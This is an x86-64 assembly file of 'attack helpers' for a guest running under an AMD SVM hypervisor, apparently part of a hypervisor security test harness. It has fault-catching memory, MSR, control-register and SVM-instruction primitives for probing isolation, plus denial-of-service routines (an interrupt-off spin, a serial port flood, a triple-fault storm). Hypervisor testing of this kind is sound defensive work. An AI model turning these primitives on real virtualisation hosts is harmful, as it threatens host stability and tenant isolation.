; attack helpers: single operations that may fault (memory, MMIO, MSRs, control
; registers, SVM and cache instructions), each returning 0 or the fault vector + 1,
; and the exception handlers that resume at the helper's recovery point.
bits 64
section .bss
global t_fault_vector, t_fault_cr2, t_fault_err
recover_rip: resq 1
t_fault_vector: resq 1
t_fault_cr2: resq 1
t_fault_err: resq 1

section .text
global t_read64, t_write64, t_write_marker, t_read32, t_write32, t_read8, t_write8
global t_rdmsr, t_wrmsr, t_rdcr, t_wrcr0, t_wrcr3, t_wrcr4, t_svm
global isr_pf, isr_gp, isr_ud, isr_iret, loop_forever, out_flood, ud_storm

%macro arm 0
    lea rax, [rel .recover]
    mov [rel recover_rip], rax
    mov qword [rel t_fault_vector], 0
%endmacro
%macro recover 0
.recover:
    mov rax, [rel t_fault_vector]
    ret
%endmacro

t_read64:                    ; uint64_t t_read64(uint64_t addr, uint64_t* out)
    arm
    mov rax, [rdi]
    mov [rsi], rax
    xor eax, eax
    ret
    recover
t_write64:                   ; uint64_t t_write64(uint64_t addr, uint64_t value)
    arm
    mov [rdi], rsi
    xor eax, eax
    ret
    recover
t_write_marker:              ; uint64_t t_write_marker(uint64_t addr): the marker 0xA77AC4EDA77AC4ED
    arm                      ; as two 32-bit immediates, so that its 64-bit value is never in a register
    mov dword [rdi], 0xA77AC4ED      ; (the hypervisor keeps the guest's registers in its own memory)
    mov dword [rdi + 4], 0xA77AC4ED
    xor eax, eax
    ret
    recover
t_read32:                    ; uint64_t t_read32(uint64_t addr, uint32_t* out)
    arm
    mov eax, [rdi]
    mov [rsi], eax
    xor eax, eax
    ret
    recover
t_write32:                   ; uint64_t t_write32(uint64_t addr, uint32_t value)
    arm
    mov [rdi], esi
    xor eax, eax
    ret
    recover
t_read8:                     ; uint64_t t_read8(uint64_t addr, uint8_t* out)
    arm
    mov al, [rdi]
    mov [rsi], al
    xor eax, eax
    ret
    recover
t_write8:                    ; uint64_t t_write8(uint64_t addr, uint8_t value)
    arm
    mov [rdi], sil
    xor eax, eax
    ret
    recover

t_rdmsr:                     ; uint64_t t_rdmsr(uint32_t msr, uint64_t* out)
    arm
    mov ecx, edi
    rdmsr
    shl rdx, 32
    mov eax, eax
    or rax, rdx
    mov [rsi], rax
    xor eax, eax
    ret
    recover
t_wrmsr:                     ; uint64_t t_wrmsr(uint32_t msr, uint64_t value)
    arm
    mov ecx, edi
    mov rax, rsi
    mov rdx, rsi
    shr rdx, 32
    wrmsr
    xor eax, eax
    ret
    recover

t_rdcr:                      ; uint64_t t_rdcr(unsigned which): CR0/2/3/4/8
    cmp edi, 0
    je .c0
    cmp edi, 3
    je .c3
    cmp edi, 4
    je .c4
    mov rax, cr8
    ret
.c0:
    mov rax, cr0
    ret
.c3:
    mov rax, cr3
    ret
.c4:
    mov rax, cr4
    ret
t_wrcr0:                     ; uint64_t t_wrcr0(uint64_t v)
    arm
    mov cr0, rdi
    xor eax, eax
    ret
    recover
t_wrcr3:
    arm
    mov cr3, rdi
    xor eax, eax
    ret
    recover
t_wrcr4:
    arm
    mov cr4, rdi
    xor eax, eax
    ret
    recover

; uint64_t t_svm(unsigned which, uint64_t rax): 0 VMRUN 1 VMLOAD 2 VMSAVE 3 CLGI 4 STGI
; 5 SKINIT 6 INVLPGA 7 INVD 8 WBINVD. All but WBINVD are intercepted by the hypervisor.
t_svm:
    arm
    mov rax, rsi
    xor ecx, ecx
    cmp edi, 0
    je .vmrun
    cmp edi, 1
    je .vmload
    cmp edi, 2
    je .vmsave
    cmp edi, 3
    je .clgi
    cmp edi, 4
    je .stgi
    cmp edi, 5
    je .skinit
    cmp edi, 6
    je .invlpga
    cmp edi, 7
    je .invd
    wbinvd
    jmp .done
.vmrun:
    vmrun
    jmp .done
.vmload:
    vmload
    jmp .done
.vmsave:
    vmsave
    jmp .done
.clgi:
    clgi
    jmp .done
.stgi:
    stgi
    jmp .done
.skinit:
    skinit
    jmp .done
.invlpga:
    invlpga
    jmp .done
.invd:
    invd
.done:
    xor eax, eax
    ret
    recover

; Exception handlers (installed by the C side): record, resume at recover_rip.
isr_pf:                      ; [rsp] = error code
    push rax
    mov rax, cr2
    mov [rel t_fault_cr2], rax
    mov rax, [rsp + 8]
    mov [rel t_fault_err], rax
    mov qword [rel t_fault_vector], 15  ; #PF + 1
    mov rax, [rel recover_rip]
    mov [rsp + 16], rax
    pop rax
    add rsp, 8
    iretq
isr_gp:                      ; [rsp] = error code
    push rax
    mov rax, [rsp + 8]
    mov [rel t_fault_err], rax
    mov qword [rel t_fault_vector], 14  ; #GP + 1
    mov rax, [rel recover_rip]
    mov [rsp + 16], rax
    pop rax
    add rsp, 8
    iretq
isr_ud:                      ; no error code
    push rax
    mov qword [rel t_fault_vector], 7   ; #UD + 1
    mov rax, [rel recover_rip]
    mov [rsp + 8], rax
    pop rax
    iretq
isr_iret:
    iretq

loop_forever:                ; interrupts off, no exit ever: only the host timer can take the CPU back
    cli
.l:
    jmp .l

out_flood:                   ; void out_flood(void): OUT to COM1's THR forever, no LSR polling
    mov dx, 0x3F8
    mov al, 'F'
.l:
    out dx, al
    jmp .l

ud_storm:                    ; UD2 forever with no IDT: the CPU cannot deliver #UD (-> #DF -> triple fault)
    lidt [rel .null_idt]
.l:
    ud2
    jmp .l
.null_idt:
    dw 0
    dq 0
